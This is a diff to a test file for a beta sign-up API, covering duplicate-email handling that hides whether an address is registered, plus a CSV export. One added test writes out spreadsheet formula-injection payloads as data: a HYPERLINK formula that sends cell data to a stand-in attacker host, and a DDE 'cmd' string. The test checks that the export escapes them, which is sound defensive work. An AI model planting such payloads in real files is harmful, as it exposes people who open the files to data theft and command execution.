@@ -107,11 +107,77 @@ describe('beta programme', () => {
     expect(JSON.stringify(token)).not.toContain(query.token);
   });
 
-  it('refuses the same e-mail in any case with 409 "already registered"', async () => {
-    await signup({ ...valid, email: 'twice@example.org' });
-    const { status, body } = await signup({ ...valid, email: 'TWICE@example.org' });
-    expect(status).toBe(409);
-    expect(body.message).toContain('already registered');
+  it('answers a registered e-mail from anyone else as a new sign-up, and mails the registrant a new link', async () => {
+    const email = 'twice@example.org';
+    const first = await signup({ ...valid, email });
+    const { url: firstLink } = await mailedLink(email);
+    const again = await signup({ ...valid, firstName: 'Mallory', email: 'TWICE@example.org' });
+    // Nothing in the answer says the address was taken.
+    expect(again.status).toBe(201);
+    expect(Object.keys(again.body).sort()).toEqual(Object.keys(first.body).sort());
+    expect(again.body.verificationSent).toBe(true);
+    expect(again.body.accessCode).toMatch(ACCESS_CODE_PATTERN);
+    expect(again.body.accessCode).not.toBe(first.body.accessCode);
+
+    // Nothing stored for the repeat: the registrant's sign-up is as it was.
+    const stored = await server.database.db
+      .selectFrom('betaSignups')
+      .selectAll()
+      .where((eb) =>
+        eb.or([eb('emailKey', '=', email), eb('accessCode', '=', again.body.accessCode as string)]),
+      )
+      .execute();
+    expect(stored).toEqual([
+      expect.objectContaining({ firstName: 'Ada', accessCode: first.body.accessCode }),
+    ]);
+
+    // The registrant gets a new link with their own code, not the repeat's.
+    const { url: fresh, text } = await mailedLink(email, 2);
+    expect(text).toContain(first.body.accessCode as string);
+    expect(text).not.toContain(again.body.accessCode as string);
+    expect(fresh.searchParams.get('token')).not.toBe(firstLink.searchParams.get('token'));
+    expect((await verify(Object.fromEntries(fresh.searchParams))).status).toBe(200);
+  });
+
+  it('mails a verified registrant a note with their access code, at most once an hour', async () => {
+    const email = 'confirmed@example.org';
+    const first = await signup({ ...valid, email });
+    const { url } = await mailedLink(email);
+    expect((await verify(Object.fromEntries(url.searchParams))).status).toBe(200);
+
+    expect((await signup({ ...valid, email })).status).toBe(201);
+    const note = decoded((await smtp.mailFor(email, 2))[1]!);
+    expect(note).toContain('You are already signed up');
+    expect(note).toContain(first.body.accessCode as string);
+    expect(note).not.toContain('/verify-email');
+
+    // A third try within the hour mails nothing: a later mail to another address arrives alone.
+    expect((await signup({ ...valid, email })).status).toBe(201);
+    await signup({ ...valid, email: 'marker@example.org' });
+    await smtp.mailFor('marker@example.org');
+    expect(await smtp.mailFor(email)).toHaveLength(2);
+  });
+
+  it('says "already registered" (409) only to the visitor who signed up with the address', async () => {
+    const payload = { ...valid, email: 'mine@example.org' };
+    const remoteAddress = `10.0.0.${++address}`;
+    const first = await server.app.inject({
+      method: 'POST',
+      url: '/api/beta/signup',
+      payload,
+      remoteAddress,
+    });
+    expect(first.statusCode).toBe(201);
+    const sid = first.cookies.find((cookie) => cookie.name === 'sid')!;
+    const again = await server.app.inject({
+      method: 'POST',
+      url: '/api/beta/signup',
+      payload: { ...payload, email: 'MINE@example.org' },
+      cookies: { sid: sid.value },
+      remoteAddress,
+    });
+    expect(again.statusCode).toBe(409);
+    expect(again.json<{ message: string }>().message).toContain('already registered');
   });
 
   it('answers every rule of the registration schema with its message, and stores nothing', async () => {
@@ -232,11 +298,43 @@ describe('beta programme', () => {
   it('exports the sign-ups as CSV with their verified state', async () => {
     const rows = await createBetaRepository(server.database.db).all();
     const lines = signupsCsv(rows).trim().split('\n');
-    expect(lines[0]).toMatch(/^createdAt,firstName,lastName,phone,countryCode,email,verified,/);
+    expect(lines[0]).toMatch(
+      /^"createdAt","firstName","lastName","phone","countryCode","email","verified",/,
+    );
     expect(lines).toHaveLength(rows.length + 1);
-    expect(lines.find((l) => l.includes('Grace.Hopper@Example.org'))).toMatch(/,yes,/);
-    expect(lines.find((l) => l.includes('late@example.org'))).toMatch(/,no,/);
-    expect(lines.find((l) => l.includes('Grace.Hopper'))).toContain('parks;historic');
+    expect(lines.find((l) => l.includes('Grace.Hopper@Example.org'))).toMatch(/,"yes",/);
+    expect(lines.find((l) => l.includes('late@example.org'))).toMatch(/,"no",/);
+    expect(lines.find((l) => l.includes('Grace.Hopper'))).toContain('"parks;historic"');
+  });
+
+  it('exports cells a spreadsheet would run as formulas as text, keeping phone numbers as stored', async () => {
+    const hostile = {
+      ...valid,
+      firstName: '=HYPERLINK("http://evil.test/?"&A1,"Click")',
+      lastName: '@SUM(1+1)',
+      email: 'formula@example.org',
+      referralSource: "+1+cmd|' /C calc'!A0",
+    };
+    expect((await signup(hostile)).status).toBe(201);
+    const row = (await createBetaRepository(server.database.db).all()).find(
+      (r) => r.email === hostile.email,
+    )!;
+    const line = signupsCsv([row]).trim().split('\n')[1]!;
+    expect(line).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1,""Click"")"`);
+    expect(line).toContain(`"'@SUM(1+1)"`);
+    expect(line).toContain(`"'+1+cmd|' /C calc'!A0"`);
+    // The E.164 phone is a plain number: nothing to run, and kept as stored for other readers.
+    expect(line).toContain('"+14155550132"');
+    // Every field quoted: a spreadsheet splitting at ";" cannot start a formula mid-field.
+    expect(line).toMatch(/^(?:"(?:[^"]|"")*")?(?:,(?:"(?:[^"]|"")*")?)*$/);
+
+    // What the wizard trims away can still be in the database: tab, carriage return, minus.
+    const cells = (values: Partial<typeof row>) =>
+      signupsCsv([{ ...row, ...values }])
+        .trim()
+        .split('\n')[1]!;
+    expect(cells({ firstName: '\t=1+1', lastName: '\r-2+3' })).toContain(`"'\t=1+1","'\r-2+3"`);
+    expect(cells({ firstName: ' =1+1', lastName: '-12.5' })).toContain(`"' =1+1","-12.5"`);
   });
 
   it('limits sign-ups to 10 an hour from one address', async () => {
